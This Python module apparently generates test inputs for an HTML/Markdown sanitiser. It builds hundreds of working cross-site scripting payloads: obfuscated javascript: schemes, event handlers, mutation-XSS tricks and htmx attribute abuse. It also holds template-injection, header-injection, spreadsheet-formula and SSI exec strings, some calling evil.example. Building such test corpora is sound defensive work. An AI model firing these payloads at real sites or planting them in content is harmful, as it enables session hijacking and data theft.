"""Texts that mean harm, made from the classes of what has worked elsewhere: none is taken from anyone's list.

Each tries to call `/pwned`, by script, by a form, by an image or by htmx: what reaches the server has worked.
"""

import os
from itertools import chain, product

STEP = int(
    os.environ.get("HOSTILE_STEP", "3")
)  # how much of it a run shows: every third, or all with 1
CALL = "fetch('/pwned')"
SCHEMES = [
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "javascript&colon;",
    "&#106;avascript:", "&#x6A;avascript:", "javascript&#58;", "java&Tab;script:", "vbscript:", "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD5mZXRjaCgnL3B3bmVkJyk8L3NjcmlwdD4=#", "blob:http://x/", "javascript%3A", "view-source:",
    "feed:javascript:", "livescript:", "\\javascript:",
]  # fmt: skip
LINKS = ["[x]({}{})", "<{}{}>", "[x][r]\n\n[r]: {}{}", "![x]({}{})", "[x](<{}{}>)"]
QUIET_CALL = "fetch`/pwned`"  # without brackets, which would end a link

HANDLERS = [
    "<img src=x onerror={}>", "<img/src=x/onerror={}>", '<img src="x"onerror="{}">', "<svg onload={}>", "<svg/onload={}>",
    "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<body onload={}>",
    "<video><source onerror={}></video>", "<video src=x onerror={}></video>", "<audio src=x onerror={}></audio>",
    "<details open ontoggle={}>x</details>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>", "<button autofocus onfocus={}>x</button>",
    "<iframe onload={}></iframe>", '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    "<object data=x onerror={}></object>", "<link rel=stylesheet href=x onerror={}>", "<script src=x onerror={}></script>",
    "<style onload={}></style>", "<marquee onstart={}>x</marquee>", "<div tabindex=0 autofocus onfocus={}>x</div>",
    "<a href=# autofocus onfocus={}>x</a>", "<p onmouseover={}>x</p>", "<p oncontentvisibilityautostatechange={} style=content-visibility:auto>x</p>",
    "<div style='animation:x 1s' onanimationstart={}>x</div><style>@keyframes x{{}}</style>",
    "<math><mtext><img src=x onerror={}></mtext></math>", "<template><img src=x onerror={}></template>",
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script/x>{}</script>", "<script type=module>{}</script>",
    "<scr<script>ipt>{}</script>", "<<script>{}//<</script>", "<script>{}", "<img src=x onerror={}//",
    "<image src=x onerror={}>", "<form><button formaction='javascript:{}'>x</button></form>",
    "<isindex action='javascript:{}'>", "<base href='javascript:{}//'>", "<embed src='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<iframe src='javascript:{}'></iframe>",
    "<a href='javascript:{}'>x</a>", "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>",
    "<math href='javascript:{}'>x</math>", "<area href='javascript:{}'>",
]  # fmt: skip
# Between what the sanitiser reads and what a browser makes of it.
MUTATIONS = [
    '<noscript><p title="</noscript><img src=x onerror={}>">', '<noembed><p title="</noembed><img src=x onerror={}>">',
    '<xmp><p title="</xmp><img src=x onerror={}>">', '<title><p title="</title><img src=x onerror={}>">',
    '<textarea><p title="</textarea><img src=x onerror={}>">', '<style><p title="</style><img src=x onerror={}>">',
    "<svg></p><style><a title='</style><img src=x onerror={}>'>", "<math><mi><style><img src=x onerror={}></style></mi></math>",
    "<svg><desc><style><img src=x onerror={}></style></desc></svg>", "<select><template><img src=x onerror={}></template></select>",
    "<table><img src=x onerror={}></table>", "<p><table><p><img src=x onerror={}>", "<!--><img src=x onerror={}>-->",
    "<!-- --!><img src=x onerror={}>", "<![CDATA[><img src=x onerror={}>]]>", "<?x ><img src=x onerror={}>",
    "<a title='&quot;><img src=x onerror={}>'>x</a>", "<form><form><img src=x onerror={}>", "<frameset onload={}>",
]  # fmt: skip
# Where Markdown ends and HTML begins.
PLACES = [
    "# {}", "- {}", "> {}", "| a |\n| - |\n| {} |", "[{}](https://example.com)", "![{}](https://example.com)", "**{}**",
    "`a` {} `b`", "[x](https://example.com '{}')", "~~~ {}\ncode\n~~~", "``` \"{}\ncode\n```", "- [ ] {}", "\\{}",
    "> [!NOTE]\n> {}", "<details><summary>{}</summary>\n\nx\n\n</details>",
    "<details {}>\n\nx\n\n</details>", "[x](docs/{})", "[x](#{})\n\n# {}", "[^1]\n\n[^1]: {}", "<div\n\n{}\n\n</div>", "    code\n\n{}", "<https://example.com/{}>", "x\n\n***\n\n{}",
]  # fmt: skip
IN_PLACES = ["<img src=x onerror={}>", "<script>{}</script>"]
# What acts without any script of theirs, because a library of ours reads attributes.
DECLARED = [
    '<div hx-get="/pwned" hx-trigger="load">x</div>', '<div data-hx-post="/pwned" data-hx-trigger="load">x</div>',
    '<div hx-on:load="{}">x</div>', '<div hx-on--load="{}">x</div>', '<div data-hx-on="load: {}">x</div>',
    '<form hx-post="/pwned" hx-trigger="load"><input name=a></form>', '<a hx-boost="true" href="/pwned">x</a>',
    '<div hx-ext="sse" sse-connect="/pwned">x</div>', '<div id="messages" hx-swap-oob="outerHTML">x</div>',
    '<div x-data x-init="{}" @click="{}">x</div>', '<div _="on load {}">x</div>', "{{{{ constructor.constructor('{}')() }}}}",
    "{{% debug %}}{{{{ request.user.password }}}}", "<form action=/pwned><button>x</button></form>",
    "<button form=f formaction=/pwned>x</button>", "<input type=hidden name=csrfmiddlewaretoken value=x>",
    "<img src=/pwned>", "![x](/pwned)", "![x](//evil.example/pwned)", "<link rel=prefetch href=/pwned>",
    "<meta http-equiv=refresh content='0;url=/pwned'>", "<style>*{{background:url(/pwned)}}</style>", "<p style='background:url(/pwned)'>x</p>",
    "<video poster=/pwned></video>", "<iframe src=/pwned></iframe>", "<object data=/pwned></object>", "<portal src=/pwned></portal>",
    "<a id=htmx></a><a id=htmx name=config href=x></a>", "<img name=getElementById>", "<form id=main></form>",
    "<a ping=/pwned href=https://example.com>x</a>", "<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"/pwned\"]}}]}}</script>",
]  # fmt: skip
# In fields of one line: titles, names, topics, addresses, reasons.
BREAKS = [
    '"><img src=x onerror={}>', "'><img src=x onerror={}>", '" autofocus onfocus={} x="', "' autofocus onfocus={} x='",
    "</title><script>{}</script>", "</script><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>",
    "--><script>{}</script>", "]]><script>{}</script>", "`><img src=x onerror={}>", "\\x3cimg src=x onerror={}\\x3e",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E", "＜script＞{}＜/script＞", "<ſcript>{}</ſcript>", "\";{};//", "';{};//", "${{{}}}", "{{{{{}}}}}",
    "#{{{}}}", "<%={}%>", "{{%{}%}}", "javascript:{}", "data:text/html,<script>{}</script>", "//evil.example/{}", "\\\\evil.example\\{}",
    "https://evil.example/<script>{}</script>", "=HYPERLINK(\"https://evil.example\",\"{}\")", "@SUM(1)|{}", "\u202egpj.{}", "\u2066{}\u2069",
    "a\r\nX-Injected: {}", "a\u2028Bcc: x@evil.example {}", "../../{}", "<!--#exec cmd=\"{}\"-->",
]  # fmt: skip


def markdown():
    """Bodies of entries and comments."""
    links = (form.format(scheme, QUIET_CALL) for scheme, form in product(SCHEMES, LINKS))
    raw = (shape.format(CALL) for shape in chain(HANDLERS, MUTATIONS))
    placed = (
        place.replace("{}", shape.format(CALL)) for place, shape in product(PLACES, IN_PLACES)
    )
    declared = (shape.format(CALL, CALL) for shape in DECLARED)
    return [*raw, *declared, *placed, *links]


def fields():
    """The texts that fit in one line."""
    shapes = chain(BREAKS, HANDLERS[:32])
    return [shape.format(CALL) for shape in shapes]
